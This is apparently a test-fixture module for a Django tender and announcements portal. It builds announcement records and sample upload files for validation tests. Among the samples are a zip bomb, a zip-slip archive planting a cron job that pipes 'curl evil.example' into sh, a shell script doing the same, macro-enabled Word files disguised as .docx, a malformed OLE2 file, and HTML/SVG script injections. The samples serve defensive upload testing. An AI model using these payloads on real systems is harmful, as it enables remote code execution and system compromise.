"""Builders for announcements and for document payloads, good and hostile."""

import hashlib
import io
import struct
import zipfile
from datetime import timedelta

from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from announcements.models import Announcement, Clarification, Document, Kind, Position, TenderAddendum
from demo.pdf import minimal_pdf
from mia_portal.publishing import Status

LANGUAGES = ("tg", "ru", "en")


def translated(field, value, languages=LANGUAGES):
    return {f"{field}_{code}": f"{value} ({code})" for code in languages}


def make_announcement(kind=Kind.ANNOUNCEMENT, languages=LANGUAGES, **overrides):
    """A published item, complete in ``languages``, published an hour ago."""
    fields = {
        "kind": kind,
        "status": Status.PUBLISHED,
        "published_at": timezone.now() - timedelta(hours=1),
        **translated("title", f"{kind.label} title", languages),
        **{f"body_{code}": f"<p>{kind.label} text ({code})</p>" for code in languages},
    }
    if kind == Kind.TENDER:
        fields.update(
            reference_number="MIA-TEST/001",
            deadline=timezone.now() + timedelta(days=10),
            **translated("procuring_entity", "Ministry", languages),
        )
    if kind == Kind.VACANCY:
        fields["deadline"] = timezone.now() + timedelta(days=10)
    fields.update(overrides)
    return Announcement.objects.create(**fields)


def make_tender(**overrides):
    return make_announcement(Kind.TENDER, **overrides)


def make_vacancy(**overrides):
    return make_announcement(Kind.VACANCY, **overrides)


def make_position(announcement, **overrides):
    fields = {"announcement": announcement, "posts": 1, **translated("title", "Expert"), **overrides}
    return Position.objects.create(**fields)


def make_addendum(announcement, **overrides):
    fields = {
        "announcement": announcement,
        "issued_at": timezone.now() - timedelta(minutes=30),
        **translated("text", "Addendum text"),
        **overrides,
    }
    return TenderAddendum.objects.create(**fields)


def make_clarification(announcement, answered=True, **overrides):
    fields = {
        "announcement": announcement,
        **translated("question", "Question"),
        **(translated("answer", "Answer") if answered else {}),
        "answered_on": timezone.localdate() if answered else None,
        **overrides,
    }
    return Clarification.objects.create(**fields)


def pdf_bytes(text="Demo document"):
    return minimal_pdf([text])


def sha256(data):
    return hashlib.sha256(data).hexdigest()


def upload(data, name="document.pdf"):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def make_document(announcement, data=None, name="Тендерная документация.pdf", **overrides):
    fields = {
        "announcement": announcement,
        "language": "ru",
        **translated("title", "Dossier"),
        "file": upload(data if data is not None else pdf_bytes(), name),
        **overrides,
    }
    document = Document(**fields)
    document.save()
    return document


# --- Hostile and harmless payloads -------------------------------------------------------------

END_OF_CHAIN = 0xFFFFFFFE
FREE = 0xFFFFFFFF
FAT_SECTOR = 0xFFFFFFFD
NO_STREAM = 0xFFFFFFFF
PER_SECTOR = 128  # sector numbers in one 512-byte sector


def _ole2_header(fat_sectors, first_directory_sector, difat=()):
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into(
        "<IIIIIIIII",
        header,
        40,
        0,
        fat_sectors,
        first_directory_sector,
        0,
        4096,
        END_OF_CHAIN,
        0,
        END_OF_CHAIN,
        0,
    )
    difat = list(difat or range(fat_sectors))
    struct.pack_into("<109I", header, 76, *difat, *([FREE] * (109 - len(difat))))
    return header


def ole2_bytes(names):
    """A minimal valid OLE2 compound file whose directory lists ``names`` (empty streams).

    The FAT sectors come first, then the directory; siblings are linked as a balanced tree,
    as Office writes them, so a file of thousands of entries stays a few levels deep.
    """
    entries = [("Root Entry", 5), *((name, 2) for name in names)]
    directory_sectors = -(-len(entries) // 4)
    fat_sectors = -(-directory_sectors // (PER_SECTOR - 1))
    links = {index: [NO_STREAM, NO_STREAM, NO_STREAM] for index in range(len(entries))}

    def balance(low, high):
        if low > high:
            return NO_STREAM
        middle = (low + high) // 2
        links[middle][0:2] = balance(low, middle - 1), balance(middle + 1, high)
        return middle

    links[0][2] = balance(1, len(entries) - 1)
    fat = [FAT_SECTOR] * fat_sectors
    fat += [fat_sectors + index + 1 for index in range(directory_sectors - 1)] + [END_OF_CHAIN]
    fat += [FREE] * (fat_sectors * PER_SECTOR - len(fat))
    directory = bytearray(directory_sectors * 512)
    for index in range(directory_sectors * 4):
        struct.pack_into("<III", directory, index * 128 + 68, NO_STREAM, NO_STREAM, NO_STREAM)
    for index, (name, kind) in enumerate(entries):
        offset = index * 128
        encoded = name.encode("utf-16-le")
        directory[offset : offset + len(encoded)] = encoded
        struct.pack_into("<HBB", directory, offset + 64, len(encoded) + 2, kind, 1)
        struct.pack_into("<III", directory, offset + 68, *links[index])
        struct.pack_into("<IQ", directory, offset + 116, END_OF_CHAIN, 0)
    header = _ole2_header(fat_sectors, first_directory_sector=fat_sectors)
    return bytes(header) + struct.pack(f"<{len(fat)}I", *fat) + bytes(directory)


def ole2_claiming_a_huge_fat(difat_sectors=4):
    """A Word file of a few kilobytes whose header and DIFAT list its one FAT sector hundreds of
    times over: a FAT far larger than the file, each copy read again."""
    data = bytearray(ole2_bytes(["WordDocument"]))
    first_difat = len(data) // 512 - 1
    header = _ole2_header(109 + 127 * difat_sectors, first_directory_sector=1, difat=[0] * 109)
    struct.pack_into("<II", header, 68, first_difat, difat_sectors)
    data[:512] = header
    for index in range(difat_sectors):
        following = first_difat + index + 1 if index + 1 < difat_sectors else END_OF_CHAIN
        data += struct.pack("<128I", *([0] * 127), following)
    return bytes(data)


def doc_bytes(macros=False):
    names = ["WordDocument", "1Table", "\x05SummaryInformation"]
    return ole2_bytes([*names, "Macros", "VBA"] if macros else names)


def xls_bytes(macros=False):
    return ole2_bytes(["Workbook", "_VBA_PROJECT_CUR"] if macros else ["Workbook"])


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{main}"/>{extra}</Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _zip(members, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes(main=DOCX_MAIN, extra_parts=(), extra_types="", relationships=None):
    members = [
        ("[Content_Types].xml", CONTENT_TYPES.format(part="word/document.xml", main=main, extra=extra_types)),
        ("_rels/.rels", relationships or '<?xml version="1.0"?><Relationships/>'),
        ("word/document.xml", '<?xml version="1.0"?><w:document><w:body>Тендер</w:body></w:document>'),
        *extra_parts,
    ]
    return _zip(members)


def docm_bytes():
    """A macro-enabled Word document (what attackers rename to .docx)."""
    return docx_bytes(
        main=DOCM_MAIN,
        extra_parts=[("word/vbaProject.bin", ole2_bytes(["VBA", "_VBA_PROJECT", "dir"]))],
        extra_types=(
            '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
    )


def xlsx_bytes():
    members = [
        ("[Content_Types].xml", CONTENT_TYPES.format(part="xl/workbook.xml", main=XLSX_MAIN, extra="")),
        ("xl/workbook.xml", '<?xml version="1.0"?><workbook/>'),
    ]
    return _zip(members)


def odf_bytes(mimetype="application/vnd.oasis.opendocument.text", extra_parts=()):
    mimetype_entry = zipfile.ZipInfo("mimetype")
    mimetype_entry.compress_type = zipfile.ZIP_STORED
    members = [
        (mimetype_entry, mimetype),
        ("content.xml", '<?xml version="1.0"?><office:document-content/>'),
        ("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest/>'),
        *extra_parts,
    ]
    return _zip(members)


def zip_bytes(members=None):
    return _zip(members or [("readme.txt", "Тендер"), ("dossier.pdf", pdf_bytes())])


def zip_bomb():
    """Five megabytes of zeros packed into a few kilobytes."""
    return _zip([("zeros.txt", b"\0" * (5 * 1024 * 1024))])


def zip_slip(name="../../../etc/cron.d/evil"):
    return _zip([("readme.txt", "ok"), (name, "* * * * * root curl evil.example | sh")])


def encrypted_zip():
    """A ZIP whose entry claims to be encrypted (bit 0 of the flags set)."""
    data = bytearray(_zip([("secret.pdf", pdf_bytes())], zipfile.ZIP_STORED))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 0x01
    data[central + 8] |= 0x01
    return bytes(data)


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_IMAGE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
)
WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
